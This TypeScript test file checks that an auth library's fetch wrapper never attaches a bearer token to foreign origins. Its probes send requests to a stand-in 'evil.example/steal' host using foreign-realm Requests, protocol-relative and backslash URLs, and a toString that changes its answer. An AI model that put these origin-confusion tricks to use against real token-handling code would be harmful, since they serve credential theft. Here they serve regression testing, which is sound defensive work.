import { Window } from 'happy-dom'
import { beforeEach, describe, expect, it } from 'vitest'
import { APP, fakeProvider, installFakeLocks, logIn, openTab } from './helpers.js'

// Issue F, "a token sent to a foreign origin": auth.fetch must decide where the token goes from
// the request that is actually sent, never from a string form of `input`. Every probe here
// fails on the code that checked `input instanceof Request ? input.url : String(input)`.

beforeEach(() => {
  installFakeLocks()
})

/** A `Request` of another realm: happy-dom's Request of another Window is not `instanceof` this one's,
 * yet this realm's Request constructor accepts it as a Request (as browsers do with an iframe's). */
const foreign = new Window({ url: 'https://frame.example/' })
const ForeignRequest = foreign.Request as unknown as typeof Request

const ALLOWED = new Set(['https://api.example', APP])

async function signedIn() {
  const op = fakeProvider()
  const auth = openTab(op)
  await logIn(auth, op)
  const token = await auth.getAccessToken()
  const first = op.fetch.mock.calls.length
  /** What reached the network: url and Authorization of every call made since login. */
  const sent = () =>
    op.fetch.mock.calls.slice(first).flatMap(([input, init]) => {
      try {
        const request = input instanceof Request ? input : new Request(input as RequestInfo, init as RequestInit)
        return [{ url: request.url, authorization: request.headers.get('authorization') }]
      } catch {
        return [] // not a request fetch could send: nothing reached the network
      }
    })
  /** Calls that carried a bearer token to an origin that is not allowed. */
  const leaks = () => sent().filter((r) => r.authorization?.startsWith('Bearer ') && !ALLOWED.has(new URL(r.url).origin))
  return { op, auth, token, sent, leaks }
}

describe('auth.fetch: where the token goes is where the request goes', () => {
  /** Probes that must reach a foreign origin without a token. */
  const foreignTargets: [string, () => RequestInfo | URL, RequestInit?][] = [
    ['an iframe-like Request of another realm', () => new ForeignRequest('https://evil.example/steal')],
    ['a foreign-realm Request with an init that changes nothing about the URL', () => new ForeignRequest('https://evil.example/steal', { method: 'POST', body: 'x' }), { method: 'POST', headers: { 'x-test': '1' } }],
    ['a foreign-realm Request whose method is set by init', () => new ForeignRequest('https://evil.example/steal'), { method: 'DELETE' }],
    ['a URL object', () => new URL('https://evil.example/steal')],
    ['an object with a toString', () => ({ toString: () => 'https://evil.example/steal' }) as unknown as string],
    ['a protocol-relative URL', () => '//evil.example/steal'],
    ['a path starting with /\\ (the URL parser reads it as //)', () => '/\\evil.example/steal'],
    ['a protocol-relative URL behind leading spaces and a tab', () => ' \t//evil.example/steal'],
  ]
  it.each(foreignTargets)('%s: no token, and the request still goes out untouched', async (_, input, init) => {
    const { auth, sent, leaks } = await signedIn()
    await auth.fetch(input(), init)
    expect(leaks()).toEqual([])
    expect(sent().at(-1)).toEqual({ url: 'https://evil.example/steal', authorization: null })
  })

  it('a toString that answers differently the second time never sends the token elsewhere', async () => {
    const { auth, sent, leaks } = await signedIn()
    let calls = 0
    const shifty = { toString: () => (calls++ === 0 ? 'https://api.example/me' : 'https://evil.example/steal') }
    await auth.fetch(shifty as unknown as string).catch(() => {})
    expect(leaks()).toEqual([])
    // Read once: the request checked is the request sent.
    expect(calls).toBe(1)
    expect(sent().at(-1)!.url).toBe('https://api.example/me')
  })

  it('a blob: URL whose inner origin is allowed gets no token (http(s) only)', async () => {
    const { auth, sent } = await signedIn()
    await auth.fetch('blob:https://api.example/0d3c5e1a-9f2b-4a7c-8e21-5b7f0c9d1e42').catch(() => {})
    expect(sent().at(-1)).toMatchObject({ authorization: null })
  })

  const ownTargets: [string, () => RequestInfo | URL, string][] = [
    ['a foreign-realm Request to an allowed origin', () => new ForeignRequest('https://api.example/me'), 'https://api.example/me'],
    ['a URL object to an allowed origin', () => new URL('https://api.example/me'), 'https://api.example/me'],
    ['an object with a toString to an allowed origin', () => ({ toString: () => 'https://api.example/me' }) as unknown as string, 'https://api.example/me'],
    ['a relative URL (the page origin is allowed)', () => 'me', `${APP}/me`],
    ['a path-absolute URL', () => '/api/me', `${APP}/api/me`],
  ]
  it.each(ownTargets)('%s: the token is attached', async (_, input, url) => {
    const { auth, token, sent } = await signedIn()
    const response = await auth.fetch(input())
    expect(response.status).toBe(200)
    expect(sent().at(-1)).toEqual({ url, authorization: `Bearer ${token}` })
  })
})

describe('auth.fetch: headers and bodies of the request that is sent', () => {
  it('init.headers with Authorization: the caller\'s header is sent as it is, never replaced, no refresh', async () => {
    const { auth, op, sent } = await signedIn()
    op.expireAccessTokens()
    const response = await auth.fetch(new ForeignRequest('https://api.example/me'), { headers: { Authorization: 'Basic YWRhOnB3' } })
    expect(response.status).toBe(401)
    expect(sent().at(-1)).toEqual({ url: 'https://api.example/me', authorization: 'Basic YWRhOnB3' })
    expect(op.requests('/token', 'refresh_token')).toHaveLength(0)
  })

  it('init.headers replacing a Request\'s headers: the Authorization that init dropped is not what decides', async () => {
    const { auth, token, sent } = await signedIn()
    // What is sent has init's headers only (Fetch §5.4): no caller Authorization, so ours goes on.
    await auth.fetch(new Request('https://api.example/me', { headers: { Authorization: 'Bearer someone-elses' } }), { headers: { 'x-test': '1' } })
    expect(sent().at(-1)).toEqual({ url: 'https://api.example/me', authorization: `Bearer ${token}` })
  })

  it('a foreign-realm Request with a body is sent again, body included, after a 401', async () => {
    const { auth, op } = await signedIn()
    op.expireAccessTokens()
    const response = await auth.fetch(new ForeignRequest('https://api.example/items', { method: 'POST', body: 'payload' }))
    expect(await response.json()).toMatchObject({ ok: true, body: 'payload' })
    expect(op.requests('/items')).toHaveLength(2)
  })

  it('a streamed body survives the 401 retry', async () => {
    const { auth, op } = await signedIn()
    op.expireAccessTokens()
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode('chunk-1,'))
        controller.enqueue(new TextEncoder().encode('chunk-2'))
        controller.close()
      },
    })
    const response = await auth.fetch('https://api.example/items', { method: 'POST', body, duplex: 'half' } as RequestInit)
    expect(await response.json()).toMatchObject({ ok: true, body: 'chunk-1,chunk-2' })
    expect(op.requests('/token', 'refresh_token')).toHaveLength(1)
    expect(op.requests('/items')).toHaveLength(2)
  })

  it('an input the Request constructor refuses gets no token and fetch reports it', async () => {
    const { auth, leaks } = await signedIn()
    await expect(auth.fetch('https://api.example/me', { method: 'GET', body: 'not allowed on GET' })).rejects.toHaveProperty('name')
    await expect(auth.fetch({ toString: () => { throw new Error('no') } } as unknown as string)).rejects.toHaveProperty('message', 'no')
    expect(leaks()).toEqual([])
  })
})
